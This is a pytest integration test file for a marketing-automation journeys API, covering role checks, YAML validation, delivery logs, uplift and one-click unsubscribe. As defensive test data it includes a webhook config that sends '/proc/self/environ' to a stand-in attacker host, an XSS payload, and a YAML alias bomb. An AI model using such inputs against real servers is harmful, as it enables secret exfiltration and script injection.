"""The journeys API and the unsubscribe link, against a real server, a real SMTP server
(aiosmtpd) and the workspace's real automation database."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import duckdb
import pytest
import yaml
from journeys_setup import AUDIENCE, COMMENT, copy_workspace, free_port, prepare, runs

from kequn.automation import db
from kequn.automation.report import journeys_report
from kequn.automation.unsubscribe import make_token, opted_out
from kequn.core.compute import parquet_glob
from kequn.snapshots.runs import get_run, previous_run
from kequn.store.workspace import Workspace

pytestmark = pytest.mark.slow


class Mailbox:
    def __init__(self) -> None:
        self.messages: list[Any] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        from email import message_from_bytes, policy

        self.messages.append(message_from_bytes(envelope.content, policy=policy.default))
        return "250 OK"


@pytest.fixture(scope="module")
def mailbox() -> Iterator[tuple[Mailbox, int]]:
    from aiosmtpd.controller import Controller

    box, port = Mailbox(), free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    yield box, port
    controller.stop()


@pytest.fixture(scope="module")
def jsrv(
    server: Any, web_ws: Workspace, serve: Any, mailbox: Any, tmp_path_factory: Any
) -> Iterator[Any]:
    """A server of its own over a copy of the web workspace, with journeys planned and
    delivered for the first run (the session server's workspace is left alone)."""
    ws = copy_workspace(web_ws, tmp_path_factory.mktemp("journeys-api"))
    with serve(ws, server.tokens) as srv:
        prepare(ws, mailbox[1], srv.url)
        yield srv


def _text(ws: Workspace) -> str:
    return (ws.root / "journeys.yaml").read_text(encoding="utf-8")


def _labels(ws: Workspace) -> list[dict[str, Any]]:
    _, late = runs(ws)
    con = duckdb.connect()
    try:
        rows = con.execute(
            f"SELECT customer_id, orders, spend, marketing_consent FROM {late.rows_sql()}"
        ).fetchall()
    finally:
        con.close()
    return [dict(zip(("customer_id", "orders", "spend", "consent"), r, strict=True)) for r in rows]


def test_roles(jsrv: Any) -> None:
    with jsrv.client() as anonymous:
        assert anonymous.get("/api/journeys").status_code == 401
        assert anonymous.put("/api/journeys", json={"text": ""}).status_code == 401
    text = _text(jsrv.ws)
    with jsrv.client("viewer") as viewer:
        listed = viewer.get("/api/journeys")
        assert listed.status_code == 200
        assert [j["id"] for j in listed.json()["journeys"]] == ["winback", "care"]
        # the file itself (channel hosts, accounts, webhook URLs) is for editors only
        assert listed.json()["text"] == ""
        assert "127.0.0.1" not in viewer.get("/journeys/winback").text
        for response in (
            viewer.put("/api/journeys", json={"text": text}),
            viewer.post("/api/journeys/winback/enabled", json={"enabled": False}),
            viewer.post("/api/journeys/winback/preview", json={}),
            viewer.post("/api/journeys/messages/x/replay"),
        ):
            assert response.status_code == 403, response.text
            assert response.json()["error"]["code"] == "forbidden"
    with jsrv.client("analyst") as analyst:
        refused = analyst.post("/api/journeys/messages/x/replay")
        assert refused.status_code == 403
        assert "admin" in refused.json()["error"]["message"]
    assert _text(jsrv.ws) == text


def test_list_counts_messages_per_status(jsrv: Any) -> None:
    with jsrv.client("viewer") as viewer:
        data = viewer.get("/api/journeys").json()
    with db.connect(jsrv.ws) as con:
        expected = dict(
            con.execute(
                "SELECT status, count(*) FROM outbox WHERE journey_id = 'care' GROUP BY ALL"
            ).fetchall()
        )
    care = next(j for j in data["journeys"] if j["id"] == "care")
    assert {k: v for k, v in care["messages"].items() if v} == expected
    assert care["messages"]["dead"] > 0  # nothing listens at its webhook
    winback = next(j for j in data["journeys"] if j["id"] == "winback")
    assert winback["messages"]["sent"] > 0
    assert (winback["trigger"], winback["holdout"], winback["channel_type"]) == (
        {"change": "rule", "target": None, "rule": "orders >= 1"},
        0.2,
        "email",
    )


def test_validation_errors_name_their_line(jsrv: Any) -> None:
    good = _text(jsrv.ws)
    bad = good.replace(AUDIENCE, "spend >> 3")
    line = next(i for i, row in enumerate(bad.splitlines(), 1) if "spend >> 3" in row)
    with jsrv.client("analyst") as analyst:
        checked = analyst.post("/api/journeys/validate", json={"text": bad}).json()
        assert checked["ok"] is False
        assert [p["line"] for p in checked["problems"]] == [line]
        assert checked["problems"][0]["text"].startswith(f"Line {line}: winback.audience")
        zh = analyst.post("/api/journeys/validate?lang=zh", json={"text": bad}).json()
        assert zh["problems"][0]["text"].startswith(f"第 {line} 行：")
        saved = analyst.put("/api/journeys", json={"text": bad})
        assert saved.status_code == 400
        error = saved.json()["error"]
        assert error["code"] == "invalid_journeys"
        assert f"Line {line}" in error["message"]
        # a YAML syntax error, and a channel no journey may use, placed too
        broken = analyst.post("/api/journeys/validate", json={"text": good + "  - [\n"}).json()
        assert broken["problems"][0]["line"] == len(good.splitlines()) + 1
        unknown = good.replace("channel: crm", "channel: nowhere")
        where = next(i for i, row in enumerate(unknown.splitlines(), 1) if "id: care" in row)
        found = analyst.post("/api/journeys/validate", json={"text": unknown}).json()
        assert [p["line"] for p in found["problems"]] == [where]
        assert "'nowhere' is not under channels" in found["problems"][0]["message"]
    assert _text(jsrv.ws) == good  # nothing saved


def test_save_is_checked_against_the_version(jsrv: Any) -> None:
    with jsrv.client("analyst") as analyst:
        listed = analyst.get("/api/journeys").json()
        edited = listed["text"].replace("holdout: 0.2", "holdout: 0.25")
        stale = analyst.put("/api/journeys", json={"text": edited, "version": "0" * 16})
        assert stale.status_code == 409
        saved = analyst.put("/api/journeys", json={"text": edited, "version": listed["version"]})
        assert saved.status_code == 200, saved.text
        assert _text(jsrv.ws) == edited
        back = listed["text"]
        assert analyst.put("/api/journeys", json={"text": back}).status_code == 200


def test_only_an_admin_changes_where_messages_go(jsrv: Any) -> None:
    """A channel is a destination and a secret to read: an analyst who could write one
    could post the server's secrets (token_file: /proc/self/environ) to their own host."""
    before = _text(jsrv.ws)
    data = yaml.safe_load(before)
    data["channels"]["crm"] = {
        "type": "webhook",
        "url": "https://attacker.example/h",
        "secret_file": "/proc/self/environ",
    }
    hostile = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    with jsrv.client("analyst") as analyst:
        refused = analyst.put("/api/journeys", json={"text": hostile})
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"]["message"]
        assert _text(jsrv.ws) == before
    with jsrv.client("admin") as admin:
        assert admin.put("/api/journeys", json={"text": hostile}).status_code == 200
        assert admin.put("/api/journeys", json={"text": before}).status_code == 200
    # a viewer cannot make the server parse text at all
    with jsrv.client("viewer") as viewer:
        assert viewer.post("/api/journeys/validate", json={"text": before}).status_code == 403


def test_aliases_and_deep_nesting_are_problems_not_work(jsrv: Any) -> None:
    """A few bytes of YAML aliases can repeat a large template thousands of times (each
    then parsed), and deep nesting crashed the parser: both are reported, quickly."""
    journey = "{id: j%d, trigger: {entered: lifecycle.dormant}, channel: crm, templates: *t}"
    bombed = (
        "channels: {crm: {type: webhook, url: 'http://127.0.0.1:9/h'}}\n"
        "shared: &t {en: {subject: s, body: '" + "x" * 20_000 + "'}}\n"
        "journeys: [" + ", ".join(journey % i for i in range(500)) + "]\n"
    )
    deep = "a: " + "[" * 3000
    with jsrv.client("analyst") as analyst:
        for text in (bombed, deep):
            answer = analyst.post("/api/journeys/validate", json={"text": text})
            assert answer.status_code == 200, answer.text[:200]
            assert answer.json()["ok"] is False
            assert answer.json()["problems"]


def test_preview_counts_match_the_snapshot(jsrv: Any) -> None:
    opted = opted_out(jsrv.ws)
    rows = _labels(jsrv.ws)

    def expected(threshold: float) -> dict[str, int]:
        chosen = [r for r in rows if (r["orders"] or 0) >= 1 and (r["spend"] or 0) >= threshold]
        return {
            "audience": len(chosen),
            "opted_out": sum(r["customer_id"] in opted for r in chosen),
            "no_consent": sum(
                r["customer_id"] not in opted and r["consent"] is not True for r in chosen
            ),
        }

    with jsrv.client("analyst") as analyst:
        saved = analyst.post("/api/journeys/winback/preview", json={}).json()
        edited_text = _text(jsrv.ws).replace(AUDIENCE, "spend >= 1000")
        edited = analyst.post("/api/journeys/winback/preview", json={"text": edited_text}).json()
        wrong = analyst.post(
            "/api/journeys/winback/preview", json={"text": edited_text.replace("1000", ">")}
        )
        missing = analyst.post("/api/journeys/nope/preview", json={})
    for found, threshold in ((saved, 300), (edited, 1000)):
        want = expected(threshold)
        assert want["audience"] > 0
        assert found["audience"] == want["audience"]
        assert found["outcomes"]["no_consent"] == want["no_consent"]
        assert found["outcomes"]["opted_out"] == want["opted_out"]
        assert sum(found["outcomes"].values()) == found["audience"]
        assert found["holdout"] == found["outcomes"]["held_out"] > 0
    assert edited["audience"] < saved["audience"]
    assert wrong.status_code == 400
    assert wrong.json()["error"]["problems"][0]["line"]
    assert missing.status_code == 404


def test_enable_and_disable_persist_in_the_file(jsrv: Any) -> None:
    with jsrv.client("analyst") as analyst:
        off = analyst.post("/api/journeys/care/enabled", json={"enabled": False})
        assert off.status_code == 200, off.text
        text = _text(jsrv.ws)
        assert text.startswith(COMMENT)
        data = yaml.safe_load(text)
        assert [j.get("enabled", True) for j in data["journeys"]] == [True, False]
        listed = analyst.get("/api/journeys").json()["journeys"]
        assert [j["enabled"] for j in listed] == [True, False]
        on = analyst.post("/api/journeys/care/enabled", json={"enabled": True})
        assert on.status_code == 200
        assert yaml.safe_load(_text(jsrv.ws))["journeys"][1]["enabled"] is True
        assert analyst.post("/api/journeys/nope/enabled", json={"enabled": True}).status_code == 404


def test_delivery_log_hides_customers_from_viewers(jsrv: Any) -> None:
    with db.connect(jsrv.ws) as con:  # a receiver quoting the customer's name back
        con.execute(
            "UPDATE outbox SET last_error = 'after 2 attempts: SMTP 552 mailbox of 韩梅梅 full' "
            "WHERE message_id = (SELECT min(message_id) FROM outbox WHERE journey_id = 'winback')"
        )
    with jsrv.client("viewer") as viewer:
        seen = viewer.get("/api/journeys/winback/messages").json()
    with jsrv.client("admin") as admin:
        full = admin.get("/api/journeys/winback/messages").json()
        dead = admin.get("/api/journeys/care/messages", params={"status": "dead"}).json()
    assert seen["personal"] is False
    assert full["personal"] is True
    assert len(seen["messages"]) == len(full["messages"]) > 0
    assert all(m["customer_id"] is None for m in seen["messages"])
    assert all(m["customer_id"] for m in full["messages"])
    # nor the message id, a hash of (journey, run, customer) a viewer could recompute
    assert all(m["message_id"] is None for m in seen["messages"])
    assert not any(m["message_id"] in json.dumps(seen) for m in full["messages"])
    text = json.dumps(seen, ensure_ascii=False)
    assert "韩梅梅" not in text
    assert "韩梅梅" in json.dumps(full, ensure_ascii=False)
    assert "after 2 attempts: SMTP 552 …" in text
    assert "@" not in text
    assert not any(m["customer_id"] in text for m in full["messages"])
    assert {m["status"] for m in dead["messages"]} == {"dead"}
    assert all(m["last_error"] for m in dead["messages"])
    assert set(full["messages"][0]) >= {"status", "attempts", "last_error", "created_at"}


def test_delivery_log_gives_kequns_own_reasons_in_the_readers_language(jsrv: Any) -> None:
    with db.connect(jsrv.ws) as con:
        con.execute(
            "UPDATE outbox SET last_error = 'no marketing consent any more' WHERE message_id = "
            "(SELECT message_id FROM outbox WHERE journey_id = 'winback' "
            "ORDER BY created_at DESC, message_id LIMIT 1)"
        )
    with jsrv.client("admin") as admin:
        zh = admin.get("/api/journeys/winback/messages?lang=zh").json()["messages"]
        en = admin.get("/api/journeys/winback/messages?lang=en").json()["messages"]
        page_zh = admin.get("/journeys/winback?lang=zh").text
        page_en = admin.get("/journeys/winback?lang=en").text
    assert "已不再同意接收营销信息" in [m["error_text"] for m in zh]
    assert "no marketing consent any more" in [m["error_text"] for m in en]
    # as stored, for scripts, in either language
    assert "no marketing consent any more" in [m["last_error"] for m in zh]
    assert "已不再同意接收营销信息" in page_zh
    assert "no marketing consent any more" not in page_zh
    assert "no marketing consent any more" in page_en


def test_replay_a_dead_letter(jsrv: Any) -> None:
    with jsrv.client("admin") as admin:
        dead = admin.get("/api/journeys/care/messages", params={"status": "dead"}).json()
        message = dead["messages"][0]["message_id"]
        replayed = admin.post(f"/api/journeys/messages/{message}/replay")
        assert replayed.status_code == 200, replayed.text
        assert replayed.json()["journey"] == "care"
        again = admin.post(f"/api/journeys/messages/{message}/replay")
        assert again.status_code == 409
        assert again.json()["error"]["code"] == "not_dead"
    with db.connect(jsrv.ws) as con:
        row = con.execute(
            "SELECT status, attempts FROM outbox WHERE message_id = ?", [message]
        ).fetchone()
    assert row == ("pending", 0)


def test_uplift_is_the_report(jsrv: Any) -> None:
    with jsrv.client("viewer") as viewer:
        found = viewer.get("/api/journeys/winback/uplift").json()
        none = viewer.get("/api/journeys/nope/uplift")
    assert found["found"] is True
    assert none.status_code == 404  # no such journey (one taken out of the file keeps its own)
    report = next(
        j for j in journeys_report(jsrv.ws, lang="en")["journeys"] if j["journey"] == "winback"
    )
    uplift = found["uplift"]
    assert uplift["treated"]["customers"] == report["treated"]["customers"] > 0
    assert uplift["holdout"]["customers"] == report["holdout"]["customers"] > 0
    assert uplift["conversion_difference"] == report["conversion_difference"]
    low, high = uplift["treated"]["conversion_ci"]
    assert low <= uplift["treated"]["conversion"] <= high
    # a journey without a holdout has nothing to compare: the page says the sample is too small
    with jsrv.client("viewer") as viewer:
        care = viewer.get("/api/journeys/care/uplift?lang=zh").json()["uplift"]
        page = viewer.get("/journeys/care?lang=zh")
    assert care["too_small"] is True
    assert care["holdout"]["customers"] == 0
    assert care["notes"]
    assert care["notes"][0] in page.text
    assert 'class="bad uplift-note"' in page.text


HOSTILE = '</script><img src=x onerror="alert(1)">'


def test_pages_escape_what_journeys_yaml_says(jsrv: Any) -> None:
    original = _text(jsrv.ws)
    hostile = original.replace("en: Win back", "en: '" + HOSTILE + "'")
    with jsrv.client("admin") as admin:
        assert admin.put("/api/journeys", json={"text": hostile}).status_code == 200
        try:
            pages = [admin.get(path) for path in ("/journeys?lang=en", "/journeys/winback?lang=en")]
        finally:
            assert admin.put("/api/journeys", json={"text": original}).status_code == 200
    for page in pages:
        assert page.status_code == 200
        assert "<img" not in page.text
    found = re.search(
        r'<script type="application/json" id="uplift-data">(.*?)</script>', pages[1].text, re.S
    )
    assert found is not None
    assert json.loads(found.group(1))["uplift"]["name"] == HOSTILE


def test_unsubscribe_link_from_a_real_email(jsrv: Any, mailbox: Any) -> None:
    box, _ = mailbox
    assert box.messages, "the first run's e-mails were delivered"
    mail = box.messages[0]
    assert mail["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    url = mail["List-Unsubscribe"].strip("<>")
    assert url.startswith(jsrv.url + "/unsubscribe/")
    with db.connect(jsrv.ws) as con:
        customer = con.execute(
            "SELECT customer_id FROM outbox WHERE message_id = ?", [mail["Idempotency-Key"]]
        ).fetchone()[0]
    lang = "zh" if mail["Content-Language"] == "zh-CN" else "en"
    with jsrv.client() as browser:  # no sign-in
        asked = browser.get(url)
        assert asked.status_code == 200
        assert f'lang="{"zh-CN" if lang == "zh" else "en"}"' in asked.text
        assert 'id="unsubscribe-confirm"' in asked.text
        assert customer not in opted_out(jsrv.ws)  # opening the link records nothing
        # a mail client's one-click (RFC 8058), posted from another origin
        done = browser.post(
            url,
            data={"List-Unsubscribe": "One-Click"},
            headers={"Origin": "https://mail.example.net"},
        )
        assert done.status_code == 200, done.text
        assert 'id="unsubscribe-done"' in done.text
        assert customer not in done.text
        assert customer not in asked.text
        assert customer in opted_out(jsrv.ws)
        # a forged or damaged token: a JSON 400, or a page for a browser; nothing recorded
        signed = make_token(jsrv.ws, "C-nobody")
        forged = signed[:-1] + ("1" if signed.endswith("0") else "0")  # one digit changed
        for token in (forged, "not-a-token", "x" * 600):
            refused = browser.post(f"/unsubscribe/{token}")
            assert refused.status_code == 400
            assert refused.json()["error"]["code"] == "bad_token"
        page = browser.get(f"/unsubscribe/{forged}", headers={"Accept": "text/html"})
        assert page.status_code == 400
        assert 'id="unsubscribe-bad"' in page.text
        assert "Traceback" not in page.text
    assert "C-nobody" not in opted_out(jsrv.ws)
    # the next run's plan leaves the customer out of marketing
    from kequn.automation.plan import process_run

    _, late = runs(jsrv.ws)
    process_run(late)
    with db.connect(jsrv.ws) as con:
        outcome = con.execute(
            "SELECT outcome FROM assignments WHERE journey_id = 'winback' AND run_id = ? "
            "AND customer_id = ?",
            [late.run_id, customer],
        ).fetchone()
        queued = con.execute(
            "SELECT count(*) FROM outbox WHERE customer_id = ? AND journey_id = 'winback' "
            "AND run_id = ?",
            [customer, late.run_id],
        ).fetchone()[0]
    assert outcome == ("opted_out",)
    assert queued == 0


def test_preview_of_an_entered_trigger_counts_the_runs_changes(
    jsrv: Any, tmp_path_factory: Any
) -> None:
    """After the unsubscribe test the later run has been processed: its stored events are
    counted; a copy without the automation database computes them. Both match the two
    runs' labels."""
    from journeys_setup import copy_workspace

    from kequn.automation.journeys import parse_journeys
    from kequn.web.journeys_view import preview

    data = yaml.safe_load(_text(jsrv.ws))
    data["journeys"].append(
        {"id": "sleepers", "trigger": {"entered": "lifecycle.dormant"}, "channel": "crm",
         "purpose": "service", "templates": {"en": {"subject": "s", "body": "b"}}}
    )  # fmt: skip
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    _, late = runs(jsrv.ws)

    def entered(before: Any, after: Any) -> int:
        globs = [parquet_glob(r.labels_path).replace("'", "''") for r in (before, after)]
        with duckdb.connect() as con:
            row = con.execute(
                f"SELECT count(*) FROM read_parquet('{globs[1]}') l "
                f"LEFT JOIN read_parquet('{globs[0]}') e USING (customer_id) "
                "WHERE l.lifecycle = 'dormant' AND e.lifecycle IS DISTINCT FROM 'dormant'"
            ).fetchone()
        assert row is not None
        return int(row[0])

    # stored events compare with the run that came before when the run was processed
    # (another test of the session may since have added a run in between)
    with db.connect(jsrv.ws) as con:
        recorded = con.execute(
            "SELECT previous_run_id FROM processed_runs WHERE run_id = ?", [late.run_id]
        ).fetchone()
    # (not processed yet when this test runs alone: then the preview computes them)
    before = get_run(jsrv.ws, recorded[0]) if recorded else previous_run(late)
    assert before is not None
    expected = entered(before, late)
    assert expected > 0
    with jsrv.client("analyst") as analyst:
        stored = analyst.post("/api/journeys/sleepers/preview", json={"text": text}).json()
    assert stored["audience"] == expected
    assert stored["outcomes"]["queued"] + stored["outcomes"]["capped"] == expected  # service
    # computed now, they compare with the latest run with an earlier as-of
    fresh = copy_workspace(jsrv.ws, tmp_path_factory.mktemp("no-automation"))
    _, fresh_late = runs(fresh)
    journeys = parse_journeys(text, fresh_late.taxonomy())
    computed = preview(fresh, fresh_late, journeys, journeys.journeys[-1])
    before = previous_run(fresh_late)
    assert before is not None
    assert computed["audience"] == entered(before, fresh_late)
    assert not (fresh.root / "automation" / "automation.duckdb").exists()


def test_a_journeys_trigger_is_named_in_the_readers_language(jsrv: Any) -> None:
    """The journeys pages showed a trigger as 进入 lifecycle.dormant, the file's ids, on
    中文 pages too: now the dimension's and the label's names, the id beside them."""
    from kequn.automation.journeys import journeys_path

    path = journeys_path(jsrv.ws)
    original = path.read_text(encoding="utf-8")
    data = yaml.safe_load(original)
    data["journeys"].append(
        {"id": "sleepers", "trigger": {"entered": "lifecycle.dormant"}, "channel": "crm",
         "purpose": "service", "templates": {"en": {"subject": "s", "body": "b"}}}
    )  # fmt: skip
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    try:
        with jsrv.client("analyst") as analyst:
            listing_zh = analyst.get("/journeys?lang=zh").text
            page_zh = analyst.get("/journeys/sleepers?lang=zh").text
            page_en = analyst.get("/journeys/sleepers?lang=en").text
    finally:
        path.write_text(original, encoding="utf-8")
    for page in (listing_zh, page_zh):
        assert "进入 生命周期：沉睡" in page
    assert "entered Lifecycle: Dormant" in page_en
    assert "lifecycle.dormant</code>" in page_zh  # the id, for whoever edits the file
